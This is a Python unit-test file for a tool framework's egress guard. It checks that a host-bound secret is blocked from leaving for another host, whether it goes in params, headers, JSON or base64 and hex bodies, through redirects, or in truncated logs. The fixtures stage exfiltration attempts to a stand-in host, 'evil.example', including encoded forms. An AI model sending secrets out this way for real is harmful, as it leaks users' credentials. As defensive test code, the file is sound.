"""Requests of a tool's own code: each hop is looked at for bound secrets, in whatever part they stand."""

import asyncio
from base64 import b64encode

import pytest

from tests.unit.providers.http.fakes import FakeClient
from tests.unit.providers.python.fakes import FakeDesk, run
from toolcrib import Context, tool
from toolcrib.contracts.errors import Code
from toolcrib.contracts.provider import Success
from toolcrib.contracts.secret import Secret
from toolcrib.kit.http import HttpReply

VALUE = "s3cr3t-välue"


def tool_that_sends(url, **more):
    @tool("test.send", secrets=["KEY"], description="Sends it.")
    async def send(context: Context) -> int:
        key = context.secret("KEY")
        given = {name: part(key) for name, part in more.items()}
        return (await context.http.request("POST", url, **given)).status

    return send


PARTS = [
    {"params": lambda key: {"k": key}},
    {"headers": lambda key: {"Authorization": f"Bearer {key}"}},
    {"headers": lambda key: {"X-Hex": key.encode().hex()}},
    {"json": lambda key: {"deep": [key]}},
    {"body": lambda key: b64encode(b"x" + key.encode())},
]


@pytest.mark.parametrize("part", PARTS)
async def test_a_bound_secret_leaves_in_no_part_of_a_request_to_another_host(part):
    secret, client = Secret("KEY", VALUE, hosts=("api.example.com",)), FakeClient()
    outcome = await run(tool_that_sends("https://evil.example/", **part), client=client, KEY=secret)
    assert (outcome.code, outcome.details, client.sent) == (Code.EGRESS_DENIED, {"reason": "secret_host"}, [])
    assert (VALUE in outcome.message, "evil" in outcome.message) == (False, False)
    outcome = await run(tool_that_sends("https://api.example.com/", **part), client=client, KEY=secret)
    assert (outcome, len(client.sent)) == (Success(200), 1)


async def test_other_requests_of_the_same_tool_go_anywhere():
    secret, client = Secret("KEY", VALUE, hosts=("api.example.com",)), FakeClient()
    assert await run(tool_that_sends("https://other.example/"), client=client, KEY=secret) == Success(200)
    assert len(client.sent) == 1


async def test_a_redirect_is_looked_at_as_a_request_of_its_own():
    """Redirects stay within an origin; a query of the upstream's making does not take the secret along."""
    bound, moved = Secret("KEY", VALUE, hosts=("api.example.com",)), b64encode(VALUE.encode()).decode()
    client = FakeClient(HttpReply(302, {"location": f"/?k={moved}"}, b""))
    outcome = await run(tool_that_sends("https://evil.example/"), client=client, KEY=bound)
    assert (outcome.code, len(client.sent)) == (Code.EGRESS_DENIED, 1)


async def test_a_tool_may_catch_the_refusal():
    from toolcrib import RequestFailed

    @tool("test.careful", secrets=["KEY"], description="Sends it, and minds.")
    async def careful(context: Context) -> str:
        try:
            await context.http.request("GET", "https://evil.example/", headers={"X": context.secret("KEY")})
        except RequestFailed as refused:
            return f"{refused.code} {refused.reason} {refused.sent}"
        return "sent"

    secret = Secret("KEY", VALUE, hosts=("api.example.com",))
    assert await run(careful, KEY=secret) == Success("EGRESS_DENIED secret_host False")


@pytest.mark.parametrize("before", [1_990, 9_990])
async def test_a_text_that_is_cut_shows_no_half_of_a_secret(before, capsys):
    from toolcrib import ToolError

    @tool("test.tells", secrets=["KEY"], errors=["ODD"], description="Tells too much.")
    async def tells(context: Context) -> str:
        text = "x" * before + context.secret("KEY") + "y" * 20_000
        context.log.warning(text)
        context.progress(1, 2, text)
        raise ToolError("ODD", text)

    secret, desk = "long-" * 100, FakeDesk()
    outcome = await run(tells, desk=desk, KEY=secret)
    await asyncio.sleep(0)
    said = [outcome.message, capsys.readouterr().err, *(one.message for one in desk.heard)]
    assert len(said) == 3
    assert all("long-long" not in text and "lon" not in text[-20:] for text in said), said
